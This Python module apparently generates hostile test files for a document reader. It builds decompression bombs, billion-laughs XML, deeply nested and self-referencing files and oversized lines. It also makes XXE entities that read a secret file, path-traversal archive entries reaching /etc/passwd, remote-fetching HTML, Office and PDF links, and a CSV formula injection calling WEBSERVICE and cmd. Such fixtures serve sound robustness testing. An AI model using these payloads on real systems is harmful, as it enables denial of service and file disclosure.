"""Files that try to cost their reader time, memory or more; made here, each as small as it can be."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from email.message import EmailMessage

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_KIND = "application/vnd.openxmlformats-officedocument"
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)


def archive(entries: Mapping[str, str | bytes]) -> bytes:
    """A ZIP archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as opened:
        for name, content in entries.items():
            opened.writestr(name, content)
    return buffer.getvalue()


def office(
    part: str, kind: str, content: str | bytes, more: Mapping[str, str | bytes] | None = None
) -> bytes:
    """An Office file of one part."""
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            f'ContentType="application/xml"/><Override PartName="/{part}" ContentType="{_KIND}.{kind}+xml"/>'
            "</Types>",
            "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" Type="{_OFFICE}/'
            f'officeDocument" Target="{part}"/></Relationships>',
            part: content,
            **(more or {}),
        }
    )


def word(body: str, *, before: str = "", more: Mapping[str, str | bytes] | None = None) -> bytes:
    """A Word file with the given body."""
    xml = f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    return office("word/document.xml", "wordprocessingml.document.main", xml, more)


def book(page: str | bytes, more: Mapping[str, str | bytes] | None = None) -> bytes:
    """An EPUB of one page."""
    return archive(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            '<rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles>'
            "</container>",
            "b.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="p" href="p.xhtml" '
            'media-type="application/xhtml+xml"/><item id="out" href="../../../../etc/passwd" '
            'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="p"/><itemref idref="out"/>'
            "</spine></package>",
            "p.xhtml": page,
            **(more or {}),
        }
    )


def pdf(objects: Iterable[tuple[int, bytes]]) -> bytes:
    """A PDF of these objects; number 1 is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects:
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in sorted(places.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (max(places) + 1, start)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A PDF stream."""
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (extra, len(data), data)


def pdf_pages(kids: bytes, count: int, content: bytes) -> bytes:
    """A PDF whose page tree is given; object 3 is a page of that content stream, object 5 its font."""
    return pdf(
        [
            (1, b"<</Type /Catalog /Pages 2 0 R>>"),
            (2, b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, count)),
            (
                3,
                b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
                b"/Resources <</Font <</F 5 0 R>>>>>>",
            ),
            (4, content),
            (5, b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"),
        ]
    )


def png(width: int, height: int) -> bytes:
    """A black picture of one bit a point: the data of a gigapixel are a few hundred kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes((width + 7) // 8 + 1) * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def letter_in_letters(depth: int) -> bytes:
    """A message within a message within a message."""
    inner = EmailMessage()
    inner["Subject"] = "the innermost"
    inner.set_content("Hidden far inside.")
    data = inner.as_bytes()
    for number in range(depth):
        boundary = b"b%d" % number
        data = (
            b'Subject: m\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="%s"\n\n--%s\n'
            b"Content-Type: message/rfc822\n\n%s\n--%s--\n" % (boundary, boundary, data, boundary)
        )
    return data


def bombs() -> dict[str, bytes]:
    """Small files that unpack to a great deal."""
    large, huge = b" " * (40 << 20), b" " * (300 << 20)
    deflated = zlib.compress(b"q " * (150 << 20), 1)
    twice = zlib.compress(deflated, 9)
    text = stream(deflated, b"/Filter /FlateDecode")
    nested = stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return {
        "bomb.docx": word("", more={"word/media/x.xml": large}),
        "bomb text.docx": word("<w:p><w:r><w:t>" + "a" * (40 << 20) + "</w:t></w:r></w:p>"),
        "bomb.xlsx": office("xl/workbook.xml", "spreadsheetml.sheet.main", sheet.encode() + large),
        "bomb.pptx": office("ppt/presentation.xml", "presentationml.presentation.main", large),
        "bomb.epub": book(b"<html><body><p>" + huge),
        "laughs.docx": word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", before=_LAUGHS),
        "laughs.epub": book(f"{_LAUGHS}<html><body><p>&a9;</p></body></html>"),
        "laughs.html": f"{_LAUGHS}<html><body><p>&a9;</p></body></html>".encode(),
        "bomb.pdf": pdf_pages(b"3 0 R", 1, text),
        "bomb twice.pdf": pdf_pages(b"3 0 R", 1, nested),
        "bomb.png": png(40_000, 40_000),
        "bomb.mhtml": b"Content-Type: text/html; charset=utf-8\n\n<p>" + b"\n" * 1_000_000,
    }


def nested(part: int = 1) -> dict[str, bytes]:
    """Files that are nested deeply or lead back to themselves; with a part, the costly ones are shorter."""
    deep = 30_000 // part
    drawn = b"BT /F 12 Tf (a) Tj ET " * (100_000 // part)
    line = stream(b"BT /F 12 Tf 50 700 Td (The same page.) Tj ET")
    return {
        "deep.html": b"<div>" * deep + b"x" + b"</div>" * deep,
        "deep table.html": b"<table><tr><td>" * 20_000 + b"x",
        "deep list.html": b"<ul><li>x" * deep,
        "deep inline.html": b"<b><i>" * deep + b"x",
        "deep.epub": book("<html><body>" + "<div>" * deep + "x" + "</div>" * deep + "</body></html>"),
        "deep.docx": word(
            "<w:p><w:r>" + "<w:ins>" * deep + "<w:t>x</w:t>" + "</w:ins>" * deep + "</w:r></w:p>"
        ),
        "deep tables.docx": word("<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000),
        "deep.json": b"[" * deep + b"1" + b"]" * deep,
        "deep objects.json": b'{"a":' * deep + b"1" + b"}" * deep,
        "deep list.md": "\n".join("  " * n + "- x" for n in range(1_500)).encode(),
        "deep quote.md": b">" * 50_000 + b" x",
        "deep brackets.md": b"[" * deep + b"x",
        "deep emphasis.md": b"*a _b " * (50_000 // part),
        "deep links.md": b"[a](" * (50_000 // part),
        "deep pipes.md": b"\n".join(cell * (20_000 // part) for cell in (b"|a", b"|-", b"|b")),
        "deep ticks.md": b"".join(b"`" * n + b" a " for n in range(1, 1_500)),
        "deep.eml": letter_in_letters(300),
        "deep parts.eml": b"".join(
            b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(5_000)
        ),
        "deep.rtf": b"{\\rtf1 " + b"{" * deep + b"x" + b"}" * deep + b"}",
        "loop.pdf": pdf_pages(b"2 0 R 3 0 R", 2, line),
        "many.pdf": pdf_pages(b"3 0 R " * 100_000, 100_000, line),
        "many claimed.pdf": pdf_pages(b"3 0 R", 2_000_000_000, line),
        "deep pages.pdf": pdf(
            [(1, b"<</Type /Catalog /Pages 2 0 R>>")]
            + [(n, b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (n + 1)) for n in range(2, 20_000)]
        ),
        "deep arrays.pdf": pdf_pages(b"[" * deep + b"]" * deep, 1, line),
        "operators.pdf": pdf_pages(b"3 0 R", 1, stream(zlib.compress(drawn), b"/Filter /FlateDecode")),
    }


def long_lines(size: int = 10_000_000) -> dict[str, bytes]:
    """Files of so many characters on a line, or of as many lines."""
    return {
        "line.txt": b"a" * size,
        "line 中.txt": ("水" * size).encode(),
        "line spaces.txt": b"word " * (size // 5),
        "line 中 spaces.txt": ("水泵 " * (size // 3)).encode(),
        "line commas 中.txt": ("水泵，" * (size // 3)).encode(),
        "line.md": b"a" * size,
        "line.html": b"<p>" + b"a" * size,
        "line.json": json.dumps({"a": "b" * size}).encode(),
        "line.csv": b"a" * size,
        "blank lines.txt": b"\n" * size,
        "blanks.txt": b" " * size,
        "dots.txt": b"." * size,
        "dots spaces.txt": b". " * (size // 2),
        "stops 中.txt": ("。" * (size // 3)).encode(),
        "digits.txt": b"1" * size,
        "quotes.txt": b'"' * size,
        "brackets.txt": b"(" * size,
        "quoted line.csv": b'a,"' + b"b" * size + b'",c\nd,e,f\n',
        "line.rtf": b"{\\rtf1 " + b"a" * size + b"}",
    }


def repeated(part: int = 1) -> dict[str, bytes]:
    """Files that repeat what a reader may look at again and again; read in time unless it does.

    With a part, they are so much shorter.
    """
    million, many, tens, some = (size // part for size in (1_000_000, 300_000, 100_000, 20_000))
    return {
        "line stars.md": b"*" * million,
        "line marks.md": b"<" * many,
        "line tags.html": b"<" * many,
        "line entities.html": b"&amp" * many,
        "line digits.json": b"1" * many,
        "line quotes.csv": b'"' * million,
        "columns.csv": b",".join(b"%d" % n for n in range(million)) + b"\n" + b"," * (million - 1),
        "columns rows.csv": (b",".join(b"c%d" % n for n in range(some)) + b"\n") * 10,
        "header rows.csv": b"h" * 5_000 + b",b\n" + b"1,2\n" * tens,
        "blanks within.txt": b"a" + b" " * million + b"b",
        "dates.txt": b"2024-01-" * (2 * tens),
        "months 中.txt": ("二〇二四年" * (5 * (some // 2))).encode(),
        "tabs.txt": b"\t" * million + b"x\ty",
        "questions.md": b"Q: a\n" * some,
        "lines.txt": b"a\n" * (2 * tens),
        "line.eml": b"Subject: " + b"a" * million + b"\n\nx",
        "encoded words.eml": b"Subject: " + b"=?utf-8?q?a?= " * (some // 2) + b"\n\nx",
        "fences.md": b"```a\n" * tens,
        "blanks front.md": b"---\na: b" + b" " * many + b"x\n---\n\nx",
        "blanks.md": b"# a" + b" " * many + b"b\n\nx",
        "blanks.html": b"<h1>a" + b" " * million + b"b</h1><p>x",
        "dots x.txt": b"." * million + b"x",
        "blanks dots x.txt": b". " * tens + b"x" + b" " * many + b"x.",
        "long heading.md": b"# " + b"h" * many + b"\n\n" + b"A sentence that goes on. \n\n" * some,
        "long title.html": b"<title>"
        + b"t" * many
        + b"</title>"
        + b"<p>A sentence.</p><h2>b</h2>" * (some // 4),
        "long header.csv": b"h" * many + b",b\n" + b"1,2\n" * (5 * (some // 2)),
    }


def prying(address: str, secret: str) -> dict[str, bytes]:
    """Files that ask for an address, or for the content of a file, or to have something done."""
    entity = (
        f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret}"><!ENTITY w SYSTEM "{address}/x">'
        f'<!ENTITY % p SYSTEM "{address}/p">%p;]>'
    )
    page = f"""{entity}<html><head><link rel="stylesheet" href="{address}/a.css"><base href="{address}">
<script src="{address}/a.js">alert(1)</script><meta http-equiv="refresh" content="0;url={address}/r"></head>
<body onload="alert(2)"><p>An honest sentence. &s; &w;</p><img src="{address}/a.png"><iframe src="{secret}">
</iframe><object data="{secret}"></object><svg><image href="{address}/b.png"/></svg></body></html>"""
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" '
        f'Target="{address}/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="{_OFFICE}/image" '
        f'Target="{secret}" TargetMode="External"/></Relationships>'
    )
    body = "<w:p><w:r><w:t>An honest sentence.</w:t></w:r></w:p>"
    up = {"../../../../up.txt": "Out of the archive.", "/tmp/wenju-up.txt": "Out of the archive."}
    mime = b"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
    mark = f"An honest sentence.\n\n![a]({address}/a.png) [b]({secret})\n\n<iframe src='{secret}'></iframe>\n"
    return {
        "page.html": page.encode(),
        "page.epub": book(page, up),
        "page.mhtml": mime + page.encode(),
        "page.eml": b"Subject: s\n" + mime + page.encode(),
        "body.eml": b"Subject: s\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=URL; "
        + f'URL="{address}/e"\n\nAn honest sentence.'.encode(),
        "page.md": mark.encode(),
        "template.docx": word(body, more={"word/_rels/document.xml.rels": relations, **up}),
        "entity.docx": word(body.replace("honest", "honest &s;&w;"), before=entity),
        "formula.csv": f'a,b\n=WEBSERVICE("{address}"),=cmd|"/c calc"!A1\n'.encode(),
        "script.pdf": pdf(
            [
                (1, b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /URI /URI (%s)>>>>" % address.encode()),
                (2, b"<</Type /Pages /Kids [3 0 R] /Count 1>>"),
                (3, b"<</Type /Page /Parent 2 0 R /Contents 4 0 R /Resources <</Font <</F 5 0 R>>>>>>"),
                (4, stream(b"BT /F 12 Tf 50 700 Td (An honest sentence.) Tj ET")),
                (5, b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"),
            ]
        ),
        "link.rtf": b'{\\rtf1 An honest sentence. {\\field{\\*\\fldinst INCLUDETEXT "%s"}}}'
        % secret.encode(),
    }
